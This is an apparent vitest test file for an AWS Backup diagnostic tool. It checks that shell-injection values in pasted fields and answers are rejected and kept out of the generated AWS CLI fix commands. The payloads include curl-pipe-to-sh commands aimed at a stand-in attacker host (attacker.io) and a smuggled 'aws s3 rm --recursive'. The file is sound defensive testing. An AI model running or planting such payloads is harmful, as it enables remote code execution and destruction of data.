// The reviewer's payloads (issue 8, part 1), one per way in: each is rejected by name, never reaches a command, and
// the command that would have needed it shows its placeholder (a gather command) or is left out of the fix.
import { describe, expect, it } from 'vitest';
import { diagnose } from './diagnose';
import { gatherCommand } from './inputs/commands';
import { renderings } from './fixes/render';
import { t } from '../i18n';
import { pack } from '../test-support/pack';
import { expectOneAwsCall, expectScript } from '../test-support/shellWords';
import { PASTE_KEYS, type CheckId, type Diagnosis, type Finding, type Session } from './types';

const SRC = '210987654321';
const DEST = '345678901234';
const KEY = `arn:aws:kms:eu-west-1:${SRC}:key/0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58`;
const ROLE = `arn:aws:iam::${SRC}:role/service-role/AWSBackupDefaultServiceRole`;
const SH = "curl$IFS-s$IFS'attacker.io/p'|sh;#";

const OWNER_ONLY = JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'Enable IAM User Permissions', Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${SRC}:root` }, Action: 'kms:*', Resource: '*' }] });
const VAULT_OTHER = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::562390187442:root' }, Action: 'backup:CopyIntoBackupVault', Resource: '*' }] });

function copyJob(job: Record<string, string>, message = 'Access Denied trying to call AWS Backup service'): string {
  return JSON.stringify(
    {
      CopyJob: {
        CopyJobId: '8A3C5F2E-7B41-4D0B-9A1E-2C3D4E5F6A7B',
        SourceBackupVaultArn: `arn:aws:backup:eu-west-1:${SRC}:backup-vault:Default`,
        DestinationBackupVaultArn: `arn:aws:backup:eu-central-1:${DEST}:backup-vault:central-backup-vault`,
        SourceRecoveryPointArn: `arn:aws:backup:eu-west-1:${SRC}:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a`,
        ResourceType: 'EBS',
        IamRoleArn: ROLE,
        State: 'FAILED',
        StatusMessage: message,
        ...job,
      },
    },
    null,
    2,
  );
}

function session(pastes: Session['pastes'], answers: Record<string, string> = {}, facts: Session['facts'] = {}): Session {
  return { format: 'copy-doctor/session', version: 1, facts, answers, pastes };
}

interface Case {
  name: string;
  payload: string;
  session: Session;
  /** The check whose fix would have carried the payload, and the command it must now leave out. */
  check: CheckId;
  operation: string;
  /** The rejection finding: which input and field (or fact, or answer). */
  rejected: Partial<Record<'input' | 'field' | 'fact' | 'answer' | 'kind', string>>;
  /** A gather command that needs the value: it shows the placeholder instead. */
  gather?: { input: (typeof PASTE_KEYS)[number]; placeholder: string };
  /** What the check asks for instead. */
  needs?: string;
}

const CASES: Case[] = [
  {
    name: 'DestinationBackupVaultArn with a command after the vault name',
    payload: `central-backup-vault;${SH}`,
    session: session({
      copyJob: copyJob({ DestinationBackupVaultArn: `arn:aws:backup:eu-central-1:${DEST}:backup-vault:central-backup-vault;${SH}` }),
      destinationVaultPolicy: VAULT_OTHER,
    }),
    check: 'destination-vault-policy',
    operation: 'put-backup-vault-access-policy',
    rejected: { input: 'copyJob', field: 'DestinationBackupVaultArn', fact: 'destinationVaultName', kind: 'vaultName' },
    gather: { input: 'destinationVaultPolicy', placeholder: '--backup-vault-name VAULT_NAME' },
    needs: 'destinationVaultName',
  },
  {
    name: 'BackupVaultName with a newline and a second command',
    payload: 'central-backup-vault\naws s3 rm s3://audit-logs --recursive',
    session: session(
      {
        destinationVaultPolicy: JSON.stringify({
          BackupVaultName: 'central-backup-vault\naws s3 rm s3://audit-logs --recursive',
          BackupVaultArn: `arn:aws:backup:eu-central-1:${DEST}:backup-vault:central-backup-vault`,
          Policy: VAULT_OTHER,
        }),
      },
      {},
      { sourceAccountId: SRC, destinationAccountId: DEST, destinationRegion: 'eu-central-1' },
    ),
    check: 'destination-vault-policy',
    operation: 'put-backup-vault-access-policy',
    rejected: { input: 'destinationVaultPolicy', field: 'BackupVaultName', fact: 'destinationVaultName', kind: 'vaultName' },
    gather: { input: 'destinationVault', placeholder: '--backup-vault-name VAULT_NAME' },
    needs: 'destinationVaultName',
  },
  {
    name: 'KeyMetadata.Arn with a command after the key ID',
    payload: `0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58;${SH}`,
    session: session(
      {
        sourceKeyMetadata: JSON.stringify({ KeyMetadata: { KeyId: '0b7f3c52-9a1e-4d8b-b3a4-6f2e9c1d7a58', Arn: `${KEY};${SH}`, KeyState: 'Enabled', KeyManager: 'CUSTOMER' } }),
        sourceKeyPolicy: OWNER_ONLY,
      },
      {},
      { sourceAccountId: SRC, destinationAccountId: DEST, sourceRegion: 'eu-west-1' },
    ),
    check: 'source-key-policy',
    operation: 'put-key-policy',
    rejected: { input: 'sourceKeyMetadata', field: 'KeyMetadata.Arn', fact: 'sourceKeyArn', kind: 'kmsKeyRef' },
    gather: { input: 'sourceKeyPolicy', placeholder: '--key-id KEY_ARN' },
    needs: 'sourceKeyArn',
  },
  {
    name: 'an SCP id that runs a command in the management account',
    payload: `p-a1b2c3d4;${SH}`,
    session: session(
      {
        serviceControlPolicies: JSON.stringify({
          Policy: {
            PolicySummary: { Id: `p-a1b2c3d4;${SH}`, Name: 'deny-copies' },
            Content: JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'DenyCopies', Effect: 'Deny', Action: 'backup:CopyIntoBackupVault', Resource: '*' }] }),
          },
        }),
        copyJob: copyJob({}),
      },
      {},
      { sourceAccountId: SRC, destinationAccountId: DEST, sourceRegion: 'eu-west-1' },
    ),
    check: 'service-control-policies',
    operation: 'update-policy',
    rejected: { input: 'serviceControlPolicies', field: 'PolicySummary.Id', kind: 'policyId' },
    needs: 'serviceControlPolicies',
  },
  {
    name: 'a recovery point ARN that ends start-copy-job early',
    payload: `3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a --iam-role-arn x; ${SH}`,
    session: session(
      {
        copyJob: copyJob(
          { SourceRecoveryPointArn: `arn:aws:backup:eu-west-1:${SRC}:recovery-point:3b1f9c2e-7a4d-4e8b-9c1a-2f3e4d5c6b7a --iam-role-arn x; ${SH}` },
          'Copy job failed. The retention specified in the job is not within the range specified for the target Backup Vault.',
        ),
        destinationVault: JSON.stringify({ BackupVaultName: 'central-backup-vault', Locked: true, MinRetentionDays: 7, MaxRetentionDays: 35 }),
      },
      { copyRetentionDays: '400' },
    ),
    check: 'vault-lock',
    operation: 'start-copy-job',
    rejected: { input: 'copyJob', field: 'SourceRecoveryPointArn', kind: 'recoveryPointArn' },
    needs: 'copyJob',
  },
  {
    name: 'the customer-key answer',
    payload: `${KEY.replace(SRC, DEST)}$(curl -s attacker.io/p|sh)`,
    session: session(
      {
        destinationVault: JSON.stringify({ BackupVaultName: 'Default', BackupVaultArn: `arn:aws:backup:eu-central-1:${DEST}:backup-vault:Default`, EncryptionKeyArn: `arn:aws:kms:eu-central-1:${DEST}:alias/aws/backup` }),
      },
      { destinationCustomerKeyArn: `${KEY.replace(SRC, DEST)}$(curl -s attacker.io/p|sh)` },
      { sourceAccountId: SRC, destinationAccountId: DEST, destinationRegion: 'eu-central-1', resourceType: 'EBS' },
    ),
    check: 'encryption',
    operation: 'create-backup-vault',
    rejected: { input: 'answers', answer: 'destinationCustomerKeyArn', kind: 'kmsKeyArn' },
    needs: 'destinationCustomerKeyArn',
  },
  {
    name: 'an IAM role path holding a command',
    payload: `;${SH}/`,
    session: session({
      copyJob: copyJob(
        { IamRoleArn: `arn:aws:iam::${SRC}:role/;${SH}/AWSBackupDefaultServiceRole` },
        `The provided role arn:aws:iam::${SRC}:role/;${SH}/AWSBackupDefaultServiceRole cannot be assumed by AWS Backup.`,
      ),
    }),
    check: 'iam-role',
    operation: 'update-assume-role-policy',
    rejected: { input: 'copyJob', field: 'IamRoleArn', kind: 'roleArn' },
    needs: 'copyJob',
  },
];

function allCommands(d: Diagnosis, s: Session): string[] {
  const translate = (key: string, params?: Record<string, string | number>) => t('en', key, params);
  const out: string[] = [];
  for (const c of d.checks) {
    out.push(...(c.fix?.commands ?? []));
    if (c.fix?.summaryParams?.createCommand !== undefined) out.push(String(c.fix.summaryParams.createCommand));
    for (const r of renderings(c, d.facts, translate)) if (r.format === 'aws-cli') out.push(...expectScript(r.text, c.id));
  }
  const facts = Object.fromEntries(Object.entries(d.facts).map(([k, v]) => [k, v?.value]));
  for (const input of PASTE_KEYS) {
    out.push(...(gatherCommand(input, facts)?.commands ?? []));
    out.push(...(gatherCommand(input, s.facts)?.commands ?? []));
  }
  return out;
}

describe('the reviewer payloads', () => {
  for (const c of CASES) {
    it(`rejects ${c.name}`, () => {
      const d = diagnose(c.session, pack, { translate: (key, params) => t('en', key, params) });
      const check = d.checks.find((x) => x.id === c.check)!;

      // The finding names the rejected input, and the message says it in words.
      const rejected = check.findings.filter((f: Finding) => f.code === 'INPUT_VALUE_REJECTED');
      expect(rejected.map((f) => f.params), JSON.stringify(check.findings.map((f) => f.code))).toContainEqual(expect.objectContaining(c.rejected));
      const f = rejected.find((x) => Object.entries(c.rejected).every(([k, v]) => x.params?.[k] === v))!;
      expect(f.severity).toBe('security-warning');
      expect(f.message).not.toMatch(/\{\w+\}/);
      expect(f.message).toMatch(/was not used/);
      if (c.needs) expect(check.needs ?? []).toContain(c.needs);

      // No command holds the payload; the one that needed it is not offered.
      const commands = allCommands(d, c.session);
      for (const line of commands) {
        expectOneAwsCall(line, c.name);
        expect(line.includes(c.payload), line).toBe(false);
        expect(line).not.toMatch(/attacker\.io|\$IFS/);
      }
      expect(check.fix?.commands.some((x) => x.includes(` ${c.operation} `)) ?? false).toBe(false);
      expect(JSON.stringify(d)).not.toMatch(new RegExp(`"aws [^"]*${c.payload.slice(-12).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));

      // The gather command that needs the value shows its placeholder.
      if (c.gather) {
        const facts = Object.fromEntries(Object.entries(d.facts).map(([k, v]) => [k, v?.value]));
        expect(gatherCommand(c.gather.input, facts)?.commands.join('\n')).toContain(c.gather.placeholder);
      }
    });
  }

  it('keeps the commands for the same sessions with valid values', () => {
    const good = session({ copyJob: copyJob({}), destinationVaultPolicy: VAULT_OTHER });
    const d = diagnose(good, pack);
    expect(d.checks.find((x) => x.id === 'destination-vault-policy')?.fix?.commands).toEqual([
      `aws backup put-backup-vault-access-policy --backup-vault-name central-backup-vault --policy file://vault-policy.json --region eu-central-1`,
    ]);
    expect(d.checks.flatMap((x) => x.findings).filter((f) => f.code === 'INPUT_VALUE_REJECTED')).toEqual([]);
  });

  it('says which fact was rejected in Traditional Chinese too', () => {
    const d = diagnose(CASES[0]!.session, pack, { translate: (key, params) => t('zh-TW', key, params) });
    const f = d.checks.find((x) => x.id === 'destination-vault-policy')!.findings.find((x) => x.code === 'INPUT_VALUE_REJECTED')!;
    expect(f.message).toContain('複製任務輸出');
    expect(f.message).toContain('目的地保存庫名稱');
    expect(f.message).toContain('VAULT_NAME');
    expect(f.message).not.toMatch(/\{\w+\}/);
  });
});
